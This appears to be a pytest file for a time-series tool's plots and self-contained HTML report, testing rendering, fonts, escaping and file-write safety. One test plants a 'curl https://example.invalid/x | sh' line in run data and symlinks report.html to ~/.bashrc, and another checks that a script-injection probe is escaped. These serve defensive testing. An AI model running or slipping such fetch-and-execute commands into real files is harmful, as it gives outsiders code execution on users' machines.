"""Plots (PNG/SVG by suffix), the self-contained HTML report, and `seqcast report` errors (one line, exit 2)."""

from __future__ import annotations

import json
import os
import pickle
import re
import warnings
from html.parser import HTMLParser
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest
from conftest import monthly
from sample_run import FIGURES, SECTION_IDS, make_run
from typer.testing import CliRunner

from seqcast.cli import app
from seqcast import report, runs
from seqcast.errors import ConfigError, DataError, SeqcastError, SeqcastWarning
from seqcast.report import (
    plot_errors_by_step,
    plot_forecast,
    plot_loss,
    plot_multistep_forecasts,
    plot_series_grid,
    predictions_vs_truth,
    write_html,
    write_report,
)
from seqcast.train import History

PNG, SVG = b"\x89PNG\r\n\x1a\n", b"<svg"


def is_png(p):
    return p.read_bytes()[:8] == PNG


def is_svg(p):
    return SVG in p.read_bytes()[:2000]


# ---- plots ---------------------------------------------------------------------------------------------


def test_plot_forecast_with_bands(tmp_path):
    s = monthly(48)
    fc = pd.DataFrame({"date": pd.date_range("2004-01-01", periods=4, freq="MS"), "forecast": [200.0, 202, 204, 206]})
    b = {80.0: (fc["forecast"] - 3, fc["forecast"] + 3), 95.0: (fc["forecast"] - 6, fc["forecast"] + 6)}
    plot_forecast(s, tmp_path / "f.png", forecast=fc, bands=b)
    plot_forecast(s, tmp_path / "f.svg", forecast=fc, bands=b)
    assert is_png(tmp_path / "f.png")
    svg = (tmp_path / "f.svg").read_text()
    assert "80% interval" in svg and "95% interval" in svg  # legend labels
    plot_forecast(s, tmp_path / "plain.png", forecast=fc)  # without bands, as before
    assert is_png(tmp_path / "plain.png")
    with pytest.raises(DataError, match="one lower and one upper value per forecast date"):
        plot_forecast(s, tmp_path / "x.png", forecast=fc, bands={80.0: ([1, 2], [3, 4])})
    with pytest.raises(DataError, match="pass `forecast` too"):
        plot_forecast(s, tmp_path / "x.png", bands=b)
    assert not (tmp_path / "x.png").exists()


def test_plot_forecast_of_one_step_is_visible():
    """fit --horizon 1 drew its forecast and 80% band as a line and an area of one date: nothing on the figure but
    their legend entries (test_plot.png, predict --plot --horizon 1)."""
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    s = monthly(48)
    fc = pd.DataFrame({"date": pd.date_range("2004-01-01", periods=1, freq="MS"), "forecast": [200.0]})
    for bands in (None, {80.0: (fc["forecast"] - 20, fc["forecast"] + 20)}):
        fig = plot_forecast(s, None, forecast=fc, bands=bands)
        fig.axes[0].get_legend().remove()  # its red handles are drawn whatever the data
        FigureCanvasAgg(fig).draw()
        rgb = np.asarray(fig.canvas.buffer_rgba())[..., :3].astype(int)
        red = rgb[..., 0] - rgb[..., 1] > 30  # tab:red and its light shades; the data is black, the grid grey
        assert red.sum() > (40 if bands is None else 400)


def test_plot_forecast_of_many_levels_names_the_widest_and_the_narrowest():
    # 49 levels (2, 4, ..., 98) made a legend of 49 entries, off the figure: matplotlib's 'Tight layout not applied'
    import warnings

    s = monthly(48)
    fc = pd.DataFrame({"date": pd.date_range("2004-01-01", periods=6, freq="MS"), "forecast": np.full(6, 200.0)})
    bands = {float(q): (fc["forecast"] - q, fc["forecast"] + q) for q in range(2, 100, 2)}
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        fig = plot_forecast(s, None, forecast=fc, bands=bands)
        labels = [t.get_text() for t in fig.axes[0].get_legend().get_texts()]
        assert labels == ["data", "98% interval", "2% interval", "forecast (6 ahead)"]
        few = plot_forecast(s, None, forecast=fc, bands={q: bands[q] for q in (50.0, 80.0, 90.0, 98.0)})
        assert [t.get_text() for t in few.axes[0].get_legend().get_texts()][1:-1] == ["98% interval", "90% interval", "80% interval", "50% interval"]


def test_plot_loss(tmp_path):
    plot_loss(History(loss=[1.0, 0.5, 0.3], val_loss=[1.2, 0.7, 0.8], best_epoch=2), tmp_path / "l.png")
    assert is_png(tmp_path / "l.png")
    plot_loss({"loss": [0.3, -0.1], "val_loss": [], "best_epoch": [1, 2]}, tmp_path / "l.svg")  # not positive: linear axis
    assert "best epochs" in (tmp_path / "l.svg").read_text()
    with pytest.raises(DataError, match="no losses"):
        plot_loss(History(), tmp_path / "x.png")


def test_plot_errors_by_step_and_grid(tmp_path):
    plot_errors_by_step({"GRU": [0.5, 0.7, 0.9], "naive": [1.0, 1.2, 1.4]}, tmp_path / "e.svg")
    assert "GRU" in (tmp_path / "e.svg").read_text()
    with pytest.raises(DataError, match="is empty"):
        plot_errors_by_step({}, tmp_path / "x.png")
    s = monthly(36)
    items = [
        {"title": "first", "history": s, "truth": np.arange(4.0), "forecast": np.arange(4.0) + 1, "lo": np.zeros(4), "hi": np.full(4, 5.0)},
        {"title": "worst", "history": s.to_numpy(), "truth": None, "forecast": [1.0, 2.0]},
        {"title": "best", "history": pd.Series([1.0, 2.0, 3.0]), "truth": [4.0], "forecast": [4.1]},
        {"title": "dates", "history": s, "truth": [1, 2], "forecast": [1, 2], "dates": pd.date_range("2003-01-01", periods=2, freq="MS")},
    ]
    plot_series_grid(items, tmp_path / "g.png", ncols=3, title="four series")
    assert is_png(tmp_path / "g.png")
    with pytest.raises(DataError, match="ncols"):
        plot_series_grid(items, tmp_path / "x.png", ncols=0)
    irregular = pd.Series([1.0, 2, 3], index=pd.to_datetime(["2000-01-01", "2000-01-05", "2000-03-01"]))
    with pytest.raises(DataError, match="add a `dates` list"):
        plot_series_grid([{"title": "t", "history": irregular, "forecast": [1.0]}], tmp_path / "x.png")


def test_a_grid_history_without_a_freq_is_continued_quietly(tmp_path):  # pandas 3's infer_freq warns it will change
    s = monthly(36)
    s.index = pd.DatetimeIndex(list(s.index))  # the same dates, freq None: inferred
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        plot_series_grid([{"title": "t", "history": s, "forecast": [1.0, 2.0]}], tmp_path / "g.png")
        assert runs._regular(s.index)


def test_series_ids_are_drawn_literally_short_and_quietly(tmp_path, monkeypatch):
    import warnings

    import matplotlib

    monkeypatch.setattr(report, "_CJK_FONTS", ())  # as where no CJK font is installed
    s = monthly(24)
    ids = ["a$\\foo$b", "$x^2$ & <b>", "x" * 300 + " (first)", "한국어 📈"]  # "$\\foo$" as mathtext fails the whole plot
    items = [{"title": t, "history": s, "forecast": [1.0, 2.0]} for t in ids]
    with warnings.catch_warnings(record=True) as caught, matplotlib.rc_context({"svg.fonttype": "none"}):  # svg text as text
        warnings.simplefilter("always")
        plot_series_grid(items, tmp_path / "g.svg", title="$\\bar$ " + "y" * 300)
        plot_forecast(s.rename("$\\foo$"), tmp_path / "f.png")
    # no "Glyph ... missing from font" warning per character: one note for the figure whose id has them
    assert [(w.category, "'한국어 📈'" in str(w.message)) for w in caught] == [(SeqcastWarning, True)]
    svg = (tmp_path / "g.svg").read_text()
    assert "a$\\foo$b" in svg and "$x^2$ &amp; &lt;b&gt;" in svg and "한국어" in svg
    assert "x" * 24 + "…" + "x" * 17 + " (first)" in svg and "x" * 300 not in svg  # shortened in the middle, its end kept
    assert is_png(tmp_path / "f.png")


def test_matplotlib_3_8s_missing_glyph_warning_is_noted_too():
    # matplotlib 3.8 (pyproject allows it) words it "missing from current font.": one warning per character of a Korean id,
    # now one note; no text of the figure holds the character, so the note names the character
    import warnings

    from matplotlib.artist import Artist
    from matplotlib.figure import Figure

    class Warns(Artist):
        def draw(self, renderer):
            warnings.warn("Glyph 54620 (\\N{HANGUL SYLLABLE HAN}) missing from current font.", UserWarning)

    fig = Figure()
    fig.add_artist(Warns())
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert report._fig_bytes(fig).startswith(b"\x89PNG")
    assert [w.category for w in caught] == [SeqcastWarning] and "('한')" in str(caught[0].message), caught


def test_installed_cjk_fonts_follow_the_users_font_family(monkeypatch):
    # Korean labels were empty boxes: DejaVu Sans has no Hangul, and figures named no font that has. Now the figures'
    # font.family is the user's (Latin text as before) then the CJK fonts installed, which matplotlib falls back to;
    # one not installed is not named (a "findfont: Font family ... not found" line per text)
    import matplotlib
    from matplotlib import font_manager

    entries = [font_manager.FontEntry(fname=f"/fonts/{n}.ttf", name=n) for n in ("NanumGothic", "Noto Sans CJK JP", "Comic Neue")]
    monkeypatch.setattr(font_manager.fontManager, "ttflist", font_manager.fontManager.ttflist + entries)
    drawn = report._drawn(lambda: list(matplotlib.rcParams["font.family"]))
    with matplotlib.rc_context({"font.family": ["sans-serif"]}):
        assert drawn() == ["sans-serif", "Noto Sans CJK JP", "NanumGothic"]  # in _CJK_FONTS' order
        assert matplotlib.rcParams["font.family"] == ["sans-serif"]  # the user's again
    with matplotlib.rc_context({"font.family": ["serif", "NanumGothic"]}):
        assert drawn() == ["serif", "NanumGothic", "Noto Sans CJK JP"]  # the user's first, each once
    monkeypatch.setattr(font_manager.fontManager, "ttflist", [e for e in font_manager.fontManager.ttflist if e.name not in report._CJK_FONTS])
    with matplotlib.rc_context({"font.family": ["sans-serif"]}):
        assert drawn() == ["sans-serif"]


@pytest.mark.parametrize("path", ["f.png", "f.svg", None])
def test_text_no_installed_font_draws_is_noted_once(tmp_path, monkeypatch, path):
    # Korean drawn as boxes said nothing (matplotlib's warning per glyph was silenced): one note now, with the fix; the
    # figure still written; ASCII text none
    import warnings

    import matplotlib

    monkeypatch.setattr(report, "_CJK_FONTS", ())  # as where no CJK font is installed (CI)
    s = monthly(36)
    out = None if path is None else tmp_path / path
    with warnings.catch_warnings(record=True) as caught, matplotlib.rc_context({"font.family": ["DejaVu Sans"]}):
        warnings.simplefilter("always")
        plot_forecast(s.rename("승객수"), out, title="월별 승객수 (passengers)")
        assert [w.category for w in caught] == [SeqcastWarning], [str(w.message) for w in caught]
        said = str(caught[0].message)
        assert said.startswith("the plot's labels hold characters no installed font draws ('"), said
        assert "'승객수'" in said and "'월별 승객수'" in said  # the y label, the title: each run of them, once
        assert "apt-get install fonts-noto-cjk" in said and "fontlist-*.json" in said and "\n" not in said
        assert caught[0].filename == __file__  # the user's line, as each SeqcastWarning
        assert out is None or out.stat().st_size > 0
        caught.clear()
        plot_forecast(s.rename("passengers"), out, title="Zürich – α")  # DejaVu Sans has these
        plot_loss(History(loss=[1.0, 0.5], val_loss=[1.2, 0.7], best_epoch=2), None, title="📈")
    assert [w.category for w in caught] == [SeqcastWarning] and "('📈')" in str(caught[0].message)
    assert "fonts-noto-cjk" not in str(caught[0].message) and "rcParams['font.family']" in str(caught[0].message)


def test_plots_ignore_the_users_usetex_and_parse_math(tmp_path, run_dir):
    # rcParams (or a matplotlibrc) with text.usetex: True made every plot and `seqcast fit` a traceback ("latex could not
    # be found"; with LaTeX, ids holding _ or # do not compile); parse_math False drew the escaped "\\$" with its backslash
    import matplotlib

    frame = pd.DataFrame({"date": pd.date_range("2000-01-01", periods=5, freq="D"), "truth": [1.0, 2, 3, 4, 5], "a_b #1": [1.1, 2, 3, 4, 5]})
    with matplotlib.rc_context({"text.usetex": True, "text.parse_math": False, "svg.fonttype": "none"}):
        predictions_vs_truth(frame, tmp_path / "p.svg", title="sales_2024 #3 $5")
        plot_loss(History(loss=[1.0, 0.5], val_loss=[1.2, 0.7], best_epoch=2), tmp_path / "l.png")
        report.write_report(run_dir, tmp_path / "r.html")
        assert matplotlib.rcParams["text.usetex"]  # the user's settings are theirs again after each call
    svg = (tmp_path / "p.svg").read_text()
    assert "sales_2024 #3 $5" in svg and "\\$" not in svg and "a_b #1" in svg
    assert is_png(tmp_path / "l.png") and (tmp_path / "r.html").is_file()


def test_predictions_vs_truth(tmp_path):
    frame = pd.DataFrame({"date": pd.date_range("2000-01-01", periods=5, freq="D"), "truth": [1.0, 2, 3, 4, 5],
                          "LSTM": [1.1, 2.2, 2.9, 4.1, 5.3], "naive": [0.0, 1, 2, 3, 4]})
    predictions_vs_truth(frame, tmp_path / "p.png")
    assert is_png(tmp_path / "p.png")
    with pytest.raises(DataError, match="columns date, truth and one per model"):
        predictions_vs_truth(frame[["date", "truth"]], tmp_path / "x.png")


def _figures(monkeypatch) -> list:
    """The Figure objects the plot functions draw, instead of writing them."""
    figs = []
    monkeypatch.setattr(report, "_save", lambda fig, path: figs.append(fig))
    return figs


def _drawn(fig):
    """Lay out and draw a figure as _save does (tight layout), returning its renderer."""
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    FigureCanvasAgg(fig)
    fig.tight_layout()
    fig.canvas.draw()
    return fig.canvas.get_renderer()


def _tick_labels_collide(fig) -> list:
    r = _drawn(fig)
    bad = []
    for ax in fig.axes:
        boxes = [(t.get_text(), t.get_window_extent(r)) for t in ax.get_xticklabels() if t.get_visible() and t.get_text()]
        bad += [(a, b) for (a, ba), (b, bb) in zip(boxes, boxes[1:]) if ba.x1 > bb.x0]
    return bad


@pytest.mark.parametrize("freq", ["h", "D", "B", "W", "MS"])
def test_date_tick_labels_do_not_run_into_each_other(monkeypatch, freq):
    # six daily panels wrote '2021-01-012021-01-08...' as one smear under each panel; the CLI's daily
    # forecast plot had '2024-01-29' touching '2024-02-01'
    import warnings

    figs = _figures(monkeypatch)
    idx = pd.date_range("2020-01-01", periods=400, freq=freq)
    s = pd.Series(np.sin(np.arange(400) / 5), index=idx, name="y")
    fidx = pd.date_range(idx[-1], periods=13, freq=freq)[1:]
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # no "AutoDateLocator was unable to pick an appropriate interval"
        plot_series_grid([{"title": "s", "history": s.iloc[-48:], "forecast": np.zeros(12)}] * 6, "g.png")
        plot_forecast(s.iloc[-24:], "f.png", forecast=pd.DataFrame({"date": fidx, "forecast": np.zeros(12)}))
        predictions_vs_truth(pd.DataFrame({"date": idx[-80:], "truth": s.iloc[-80:].to_numpy(), "m": s.iloc[-80:].to_numpy()}), "p.png")
        for fig in figs:
            assert _tick_labels_collide(fig) == []
            for ax in fig.axes[:1]:
                assert all(t.get_rotation() == 0 for t in ax.get_xticklabels())  # short enough to need no tilt


def test_date_ticks_read_in_the_data_time_zone(monkeypatch):
    # hourly Paris data from midnight was labelled in UTC ('22:00', 'Oct-25', '02:00', ...): every hour read 2 hours early
    figs = _figures(monkeypatch)
    idx = pd.date_range("2024-10-25", periods=12, freq="h", tz="Europe/Paris")
    plot_forecast(pd.Series(np.arange(12.0), index=idx, name="y"), "f.png")
    _drawn(figs[0])
    labels = [t.get_text() for t in figs[0].axes[0].get_xticklabels()]
    assert labels[:3] == ["Oct-25", "02:00", "04:00"], labels


def test_predictions_read_back_from_their_csv_get_date_ticks(monkeypatch, tmp_path):
    # predictions_vs_truth(pd.read_csv("test_predictions.csv")) (its docstring's input) drew its dates as text:
    # one category label per row, 78 of them printed over each other
    figs = _figures(monkeypatch)
    idx = pd.date_range("2023-11-19", periods=78, freq="D")
    pd.DataFrame({"date": idx.strftime("%Y-%m-%d"), "truth": np.arange(78.0), "GRU": np.arange(78.0) + 1}).to_csv(tmp_path / "t.csv", index=False)
    predictions_vs_truth(pd.read_csv(tmp_path / "t.csv"), "p.png")
    predictions_vs_truth(pd.DataFrame({"date": [f"week {i}" for i in range(3)], "truth": [1.0, 2, 3], "m": [1.0, 2, 3]}), "q.png")
    assert _tick_labels_collide(figs[0]) == [] and len(figs[0].axes[0].get_xticklabels()) <= 9
    assert [t.get_text() for t in figs[1].axes[0].get_xticklabels()] == ["week 0", "week 1", "week 2"]  # not dates: as they are


def _data_under_legend(fig) -> int:
    """How many data points (line vertices, scatter points) of its axes each legend sits on."""
    _drawn(fig)
    n = 0
    for ax in fig.axes:
        leg = ax.get_legend()
        if leg is None:
            continue
        box = leg.get_window_extent()
        pts = [ln.get_transform().transform(ln.get_xydata()) for ln in ax.get_lines() if ln.get_label() != "y = x"]
        pts += [c.get_offset_transform().transform(c.get_offsets()) for c in ax.collections if len(c.get_offsets()) > 1]
        n += sum(int(box.contains(x, y)) for p in pts for x, y in p)
    return n


def test_legends_do_not_hide_a_falling_series(monkeypatch):
    # the legend sat in the upper left whatever the data: over the first years of a falling series
    figs = _figures(monkeypatch)
    s = monthly(96)
    falling = pd.Series(s.to_numpy()[::-1].copy(), index=s.index, name="y")
    test = falling.index[-24:]
    preds = {"gru": falling.iloc[-24:].to_numpy() + 3, "naive": falling.iloc[-25:-1].to_numpy()}
    plot_forecast(falling, "f.png", holdout=SimpleNamespace(model_name="gru", predictions=preds, dates=test))
    predictions_vs_truth(pd.DataFrame({"date": test, "truth": falling.iloc[-24:].to_numpy(), **preds}), "p.png")
    plot_series_grid([{"title": "s", "history": falling.iloc[:-6], "forecast": falling.iloc[-6:].to_numpy()}], "g.png")
    plot_errors_by_step({f"model {i}": np.linspace(3 - i / 3, 0.2 * i, 6) for i in range(8)}, "e.png")
    plot_multistep_forecasts(np.tile(np.linspace(1, 0, 20), (2, 1)), np.zeros((2, 5)), np.zeros((2, 5)), "m.png")
    assert [_data_under_legend(f) for f in figs] == [0] * 5


def test_multistep_plot_takes_one_value_per_series(monkeypatch):
    # Hands-On ML's next-value targets y_valid[:, 0] (B,) were refused: truth and forecasts had to be (B, k)
    figs = _figures(monkeypatch)
    x, y, p = np.zeros((3, 5)), np.array([1.0, 2.0, 3.0]), np.array([1.5, 2.5, 3.5])
    plot_multistep_forecasts(x, y, p, "m.png", n=2)
    lines = figs[0].axes[1].get_lines()  # series 1: inputs, truth, forecast
    assert [ln.get_xydata().tolist() for ln in lines[1:3]] == [[[5.0, 2.0]], [[5.0, 2.5]]]


def test_the_data_is_drawn_over_the_test_predictions_and_models_keep_their_colours(monkeypatch):
    # the main model's thick test line hid the black data it is compared with; MASE by step took the default
    # colour cycle (its 4th model red, the forecast's colour) instead of the models' colours in the other figures
    figs = _figures(monkeypatch)
    s = monthly(48)
    preds = {"gru": s.iloc[-12:].to_numpy(), "naive": s.iloc[-13:-1].to_numpy()}
    plot_forecast(s, "f.png", holdout=SimpleNamespace(model_name="gru", predictions=preds, dates=s.index[-12:]))
    names = ["gru", "lstm", "naive", "snaive", "drift"]
    plot_errors_by_step({m: [1.0, 2.0] for m in names}, "e.png")
    data, *tests = figs[0].axes[0].get_lines()
    assert data.get_label() == "data" and all(data.get_zorder() > t.get_zorder() for t in tests)
    lines = [ln for ln in figs[1].axes[0].get_lines() if ln.get_label() in names]
    colors = report.model_colors(names)
    assert [ln.get_color() for ln in lines] == [colors[m] for m in names] and "tab:red" not in colors.values()


def test_plots_leave_the_callers_matplotlib_alone(tmp_path):
    import matplotlib
    import matplotlib.pyplot as plt

    before = matplotlib.get_backend()
    matplotlib.use("pdf")  # say a notebook's own backend, with a figure of the user's open
    mine = plt.figure()
    try:
        plot_loss(History(loss=[1.0, 0.5], val_loss=[1.2, 0.7], best_epoch=2), tmp_path / "l.png")
        plot_forecast(monthly(24), tmp_path / "f.png")
        assert is_png(tmp_path / "l.png") and is_png(tmp_path / "f.png")
        assert matplotlib.get_backend() == "pdf"  # not switched to Agg under the user
        assert plt.get_fignums() == [mine.number]  # nothing of ours left open, theirs not closed
    finally:
        plt.close(mine)
        matplotlib.use(before)


# ---- HTML ----------------------------------------------------------------------------------------------


class _Collect(HTMLParser):
    """Section ids in order, every attribute that could point somewhere, tags used."""

    def __init__(self):
        super().__init__()
        self.sections, self.urls, self.tags = [], [], set()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        a = dict(attrs)
        if tag == "section":
            self.sections.append(a.get("id"))
        for k in ("src", "href", "srcset", "action", "data", "poster"):
            if a.get(k) is not None:
                self.urls.append((tag, k, a[k]))


def parse(html: str) -> _Collect:
    c = _Collect()
    c.feed(html)
    return c


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory):
    d = tmp_path_factory.mktemp("run")
    make_run(d)
    return d


def test_write_report_is_self_contained(run_dir):
    out = write_report(run_dir)
    assert out == run_dir / "report.html"
    html = out.read_text(encoding="utf-8")
    c = parse(html)
    assert c.sections == SECTION_IDS  # all sections, in order
    # nothing that loads from anywhere: images are data: URIs, links are in-page anchors
    assert c.urls and all(v.startswith("data:image/") if k == "src" else v.startswith("#") for _, k, v in c.urls), c.urls
    assert not {"script", "link", "iframe", "object", "embed", "base"} & c.tags
    assert not re.search(r"url\(|@import", html)
    imgs = [v for t, k, v in c.urls if t == "img"]
    assert len(imgs) == len(FIGURES) + 1  # the figures and the loss plot
    assert sum(v.startswith("data:image/svg+xml;base64,") for v in imgs) == 1
    # text is escaped: the title's < & and the data's <script> appear as text, not markup
    assert "<title>y &lt;monthly&gt; &amp; co</title>" in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert 'id="leak-warning"' in html and "the scaler leaks" in html
    assert "seqcast fit airline --model lstm --epochs 3 --seed 7 --out &#x27;runs/a b&#x27;" in html
    assert "80% and 95% intervals" in html and "verdict: LSTM beats" in html
    assert write_report(run_dir, run_dir / "again.html").read_bytes() == out.read_bytes()  # same run, same bytes


@pytest.mark.parametrize("history", [False, True])
def test_seqcast_report_imports_matplotlib_only_to_draw_the_loss_plot(tmp_path, history):
    """`seqcast report` of a backtest's run (tables and PNG files beside run.json, no training history) imported
    matplotlib and pandas (0.5 s of its 1.5 s) for nothing: only the loss plot is drawn."""
    import subprocess
    import sys

    run = make_run(tmp_path)
    if not history:
        del run["history"]
    (tmp_path / "run.json").write_text(json.dumps(run))
    code = ("import sys; from seqcast.cli import main; sys.argv = ['seqcast', 'report', sys.argv[1]]\n"
            "try:\n    main()\nexcept SystemExit:\n    pass\nprint('matplotlib' in sys.modules, 'pandas' in sys.modules, file=sys.stderr)")
    out = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == str(tmp_path / "report.html")
    assert ('id="loss-figure"' in (tmp_path / "report.html").read_text(encoding="utf-8")) == history
    matplotlib, pandas = out.stderr.strip().splitlines()[-1].split()
    assert matplotlib == str(history) and (history or pandas == "False")


def test_a_run_folder_replaced_while_its_report_is_written_gets_its_own_report(tmp_path, monkeypatch):
    # `seqcast report RUN` while a backtest --out RUN swapped its folder in: the page was made from the earlier run.json
    # (and the new folder's figures) and written into the new folder, over the report of the run it now holds
    d = tmp_path / "run"

    def save(command: str):
        runs.write_run_dir(d, lambda tmp: {"title": "t", "command": command, "leaderboard": [], "verdict": []})

    save("seqcast backtest a.csv --out run")
    real, calls = report._html_sections, []

    def sections(run, base):  # the other backtest's folder lands after this report read run.json
        if base == d:  # not the other backtest's own report, made in its temp folder
            calls.append(run["command"])
            if len(calls) == 1:
                save("seqcast backtest b.csv --out run")
        return real(run, base)

    monkeypatch.setattr(report, "_html_sections", sections)
    html = write_report(d).read_text(encoding="utf-8")
    assert calls == ["seqcast backtest a.csv --out run", "seqcast backtest b.csv --out run"]  # read again, whole
    assert "b.csv" in html and "a.csv" not in html
    monkeypatch.undo()
    from seqcast import io

    real_write = io.write_atomic
    for lost in (False, True):  # it lands after the page was made: the page went into the new folder, or its temp file
        landed = []             # was made in the folder moved away ("cannot use 'run/report.html': No such file")

        def write_atomic(path, data, lost=lost, landed=landed):
            if path == d / "report.html" and not landed:
                landed.append(save(f"seqcast backtest c{lost}.csv --out run"))
                if lost:
                    raise FileNotFoundError(2, "No such file or directory", str(path))
            real_write(path, data)

        monkeypatch.setattr(io, "write_atomic", write_atomic)
        html = write_report(d).read_text(encoding="utf-8")
        command = json.loads((d / "run.json").read_text())["command"]
        assert landed and command == f"seqcast backtest c{lost}.csv --out run"
        assert html.count("seqcast backtest ") == html.count(command) > 0  # the page of the run the folder holds, only
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


def test_a_run_folder_replaced_every_time_its_report_is_written_is_said_in_one_line(tmp_path, monkeypatch):
    # a backtest --out RUN landing after each of the 50 pages written: write_report gave up silently, printing the path of
    # a report that may be an earlier run's (or none written: each temp file lost with its folder); one line now, exit 2
    from seqcast import io

    d, saves = tmp_path / "run", []

    def save():
        saves.append(f"seqcast backtest {len(saves)}.csv --out run")
        runs.write_run_dir(d, lambda tmp: {"title": "t", "command": saves[-1], "leaderboard": [], "verdict": []})

    save()
    real_write = io.write_atomic
    monkeypatch.setattr(report, "_TRIES", 3, raising=False)  # (50 in use)
    for lost in (False, True):
        def write_atomic(path, data, lost=lost):
            if path == d / "report.html":
                save()
                if lost:
                    raise FileNotFoundError(2, "No such file or directory", str(path))
            real_write(path, data)

        monkeypatch.setattr(io, "write_atomic", write_atomic)
        before = len(saves)
        with pytest.raises(SeqcastError, match=r"^'.*run' was replaced while its report was written, 3 times \(another command "
                                               r"keeps saving a run into it; the report.html there may be an earlier run's\); "
                                               r"try again when that command has ended$"):
            write_report(d)
        assert len(saves) - before == 3
    assert_error(runner.invoke(app, ["report", str(d)]), "was replaced while its report was written, 3 times")
    monkeypatch.undo()
    assert saves[-1] in write_report(d).read_text(encoding="utf-8")  # once the saves end: its report
    assert sorted(p.name for p in tmp_path.iterdir()) == ["run"]


def test_a_run_folders_report_html_linking_out_of_it_is_not_written_through(tmp_path):
    """Bug: a run folder from someone else whose report.html is a symlink to ~/.bashrc: `seqcast report RUN` replaced
    ~/.bashrc by the page, whose lines (a verdict with newlines: 'curl ... | sh') are the run.json's author's."""
    run = tmp_path / "downloaded"
    run.mkdir()
    (run / "run.json").write_text(json.dumps({"verdict": "x\ncurl https://example.invalid/x | sh\n"}))
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("export PATH\n")
    (run / "report.html").symlink_to(home / ".bashrc")
    with pytest.raises(ConfigError, match=r"report.html' is a link to '.*\.bashrc', outside the run folder; remove the link, "
                                          r"or name the report's file with --out"):
        write_report(run)
    assert (home / ".bashrc").read_text() == "export PATH\n"
    assert "curl" in write_report(run, tmp_path / "r.html").read_text()  # a file named with --out: written
    (run / "report.html").unlink()
    (run / "report.html").symlink_to("again.html")  # a link inside the folder: written through as before
    write_report(run)
    assert (run / "again.html").is_file() and (run / "report.html").is_symlink()


def test_sections_only_for_keys_present(tmp_path):
    html = write_html({"title": "bare", "leaderboard": [{"model": "a", "mase": 1.0}]}, tmp_path / "r.html").read_text()
    assert parse(html).sections == ["leaderboard"]
    html = write_html({}, tmp_path / "e.html").read_text()
    assert parse(html).sections == [] and "nothing to show" in html
    html = write_html({"seed": 3, "data": {"name": "y", "leaks": False}}, tmp_path / "s.html").read_text()
    assert parse(html).sections == ["data", "reproduce"] and "leak-warning" not in html


def test_tables_name_metrics_as_the_terminal_does_and_unknowns_are_n_a(tmp_path):
    rows = [{"model": "gru", "mase": 0.9, "smape": 12.3, "fit_s": 1.5, "coverage_80": 81.2, "coverage_n_80": 96, "coverage_95": None},
            {"model": "naive", "mase": 1.2, "smape": 15.0, "fit_s": 0.0, "coverage_80": float("nan"), "coverage_n_80": 0, "coverage_95": None}]
    cov = [{"model": "gru", "level": "95", "nominal": 95.0, "empirical": None}]
    html = write_html({"leaderboard": rows, "coverage": cov}, tmp_path / "r.html").read_text()
    heads = re.findall(r"<th[^>]*>([^<]*)</th>", html)
    assert heads[:7] == ["model", "MASE", "sMAPE %", "fit s", "cov 80%", "n at 80%", "cov 95%"]
    assert "<td class=num>81.2</td>" in html and "coverage_" not in html and "nan" not in html
    assert html.count("<td class=num>n/a</td>") == 4  # naive's NaN, both nulls at 95%, the empirical null
    assert "n/a: too few calibration residuals" in html


def test_the_mase_ratio_columns_are_named_and_explained(tmp_path):
    rows = [{"model": "gru", "mase": 0.9, "mase_vs": "naive", "mase_ratio": 0.75, "mase_ratio_lo": 0.6, "mase_ratio_hi": 0.9},
            {"model": "naive", "mase": 1.2, "mase_vs": "naive", "mase_ratio": 1.0, "mase_ratio_lo": 1.0, "mase_ratio_hi": 1.0}]
    html = write_html({"leaderboard": rows}, tmp_path / "r.html").read_text()
    assert re.findall(r"<th[^>]*>([^<]*)</th>", html) == ["model", "MASE", "vs", "MASE ratio", "ratio 95% lo", "ratio 95% hi"]
    assert "mase_ratio" not in html and "ratio 95% lo, hi: its 95% bootstrap interval" in html
    assert "bootstrap" not in write_html({"leaderboard": [{"model": "gru", "mase": 0.9}]}, tmp_path / "s.html").read_text()


def test_wide_tables_scroll_in_their_own_box(tmp_path):
    # a backtest's 12-column leaderboard made the whole page 876 px wide on a 390 px phone
    rows = [{"model": "gru", **{f"coverage_{q}": 80.0 for q in range(50, 100, 5)}}]
    pred = [{"series": "a", "origin": 0, "step": 1, "date": "2000-01-01", "truth": 1.0, "gru": 1.1}]
    html = write_html({"leaderboard": rows, "predictions": pred, "coverage": [{"model": "gru", "level": "80"}], "seed": 1},
                      tmp_path / "r.html").read_text()
    assert len(re.findall(r"<table>", html)) == 3
    assert len(re.findall(r'<div class="wide"><table>', html)) == 2 and '<div class="scroll wide"><table>' in html
    assert '<table class="kv">' in html  # two-column tables wrap their values instead
    css = re.search(r"<style>(.*)</style>", html, re.S)[1]
    assert re.search(r"\.wide \{[^}]*overflow-x: auto", css) and "@media (max-width: 600px)" in css


def test_prediction_rows_read_from_which_series_and_step_to_truth_and_models(tmp_path):
    # a backtest's table read "date, truth, series, origin, step, gru, ...": the truth was far from the forecasts
    bt = [{"series": "a", "origin": 0, "step": 1, "date": "2000-01-01", "truth": 1.0, "gru": 1.1, "naive": 0.9}]
    bench = [{"series": "Y1", "step": 1, "truth": 1.0, "gru": 1.1}]
    one = [{"date": "2000-01-01", "truth": 1.0, "GRU": 1.1}]
    heads = [re.findall(r"<th[^>]*>([^<]*)</th>", write_html({"predictions": rows}, tmp_path / "r.html").read_text()) for rows in (bt, bench, one)]
    assert heads == [["series", "origin", "step", "date", "truth", "gru", "naive"], ["series", "step", "truth", "gru"], ["date", "truth", "GRU"]]


def test_predictions_truncated_and_missing_figure(tmp_path):
    rows = [{"date": f"d{i}", "truth": float(i), "m": float(i) + 0.5} for i in range(250)]
    run = {"predictions": rows, "figures": [{"title": "gone", "file": "nope.png"}, {"title": "txt", "file": "a.txt"}]}
    html = write_html(run, tmp_path / "r.html").read_text()
    assert "Showing the first 200 of 250 rows" in html
